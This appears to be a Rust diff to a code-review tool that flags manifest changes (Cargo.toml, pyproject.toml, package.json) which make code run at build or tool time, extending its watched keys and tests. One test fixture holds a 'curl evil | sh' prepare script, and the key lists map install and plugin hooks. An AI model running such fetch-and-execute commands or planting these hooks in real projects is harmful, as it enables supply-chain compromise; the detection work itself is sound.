@@ -13,6 +13,11 @@ type Places = &'static [&'static [&'static str]];
 const CARGO: Places = &[
     &["package", "build"],
     &["package", "links"],
+    // An older name of the same.
+    &["project", "build"],
+    &["project", "links"],
+    &["lib", "crate-type"],
+    &["lib", "crate_type"],
     &["lib", "proc-macro"],
     &["lib", "proc_macro"],
     &["lib", "plugin"],
@@ -21,6 +26,7 @@ const CARGO: Places = &[
 const PYPROJECT: Places = &[
     &["build-system"],
     &["tool", "mypy", "plugins"],
+    &["tool", "mypy", "python_executable"],
     &["tool", "pylint"],
     &["tool", "pytest"],
     &["tool", "flake8"],
@@ -38,9 +44,14 @@ const PACKAGE: Places = &[
     &["lint-staged"],
     &["simple-git-hooks"],
     &["gitHooks"],
+    &["pre-commit"],
+    &["nano-staged"],
+    &["commitlint"],
     &["packageManager"],
+    &["babel"],
     &["eslintConfig"],
     &["prettier"],
+    &["stylelint"],
     &["jest"],
 ];
 
@@ -58,10 +69,19 @@ pub(in crate::review) fn runs_more(path: &WorkspacePath, before: &Entry, after: 
         return !matches!(after, Entry::Missing | Entry::Folder);
     };
     let before = read(before, parse).unwrap_or_default();
-    places.iter().any(|place| {
-        let at = |file: &Value| place.iter().try_fold(file, |value, key| value.get(key)).cloned();
-        at(&after).is_some() && at(&after) != at(&before)
+    places.iter().any(|place| match (at(&before, place), at(&after, place)) {
+        (before, Some(after)) => before != Some(after),
+        // What was switched off is found by its usual name again, such as `build.rs`.
+        (before, None) => before == Some(&Value::Bool(false)),
     })
+}
+
+/// What is said at a place.
+fn at<'a>(file: &'a Value, place: &[&str]) -> Option<&'a Value> {
+    let value = place.iter().try_fold(file, |value, key| value.get(key))?;
+    // Of the kinds of libraries only one runs while others are built.
+    let is_kind = matches!(place, [_, "crate-type" | "crate_type"]);
+    Some(value).filter(|value| !is_kind || value.to_string().contains("proc-macro"))
 }
 
 type Parse = fn(&str) -> Option<Value>;
@@ -103,10 +123,23 @@ mod tests {
         assert!(more("sub/cargo.TOML", "", "[lib]\nproc-macro = true\n"));
         assert!(more("Cargo.toml", cargo, "[package"), "what cannot be read is not known to be harmless");
         assert!(!more("Cargo.toml", cargo, ""), "nothing runs when it is gone");
+        assert!(more("Cargo.toml", "", "[lib]\ncrate-type = [\"proc-macro\"]\n"));
+        assert!(more("Cargo.toml", "", "[lib]\ncrate_type = [\"lib\", \"proc-macro\"]\n"));
+        assert!(!more("Cargo.toml", cargo, "[package]\nname = \"a\"\n[lib]\ncrate-type = [\"cdylib\"]\n"));
+        assert!(more("Cargo.toml", "", "[project]\nname = \"a\"\nbuild = \"x.rs\"\n"));
+        assert!(
+            more("Cargo.toml", "[package]\nname = \"a\"\nbuild = false\n", cargo),
+            "build.rs is found again"
+        );
+        assert!(!more("Cargo.toml", "[package]\nname = \"a\"\nbuild = \"x.rs\"\n", "[dependencies]\n"));
         let package = r#"{"scripts": {"test": "x", "prepare": "husky"}}"#;
         assert!(!more("package.json", package, r#"{"scripts": {"test": "y", "prepare": "husky"}}"#));
         assert!(more("package.json", package, r#"{"scripts": {"prepare": "curl evil | sh"}}"#));
         assert!(more("package.json", "", r#"{"scripts": {"postinstall": "x"}}"#));
+        for key in ["babel", "stylelint", "commitlint"] {
+            assert!(more("package.json", "", &format!(r#"{{"{key}": {{"plugins": ["./x.js"]}}}}"#)), "{key}");
+        }
+        assert!(more("pyproject.toml", "", "[tool.mypy]\npython_executable = \"./x\"\n"));
         assert!(more("pyproject.toml", "", "[tool.pylint.main]\ninit-hook = \"x\"\n"));
         assert!(!more("pyproject.toml", "", "[project]\nname = \"a\"\n"));
     }
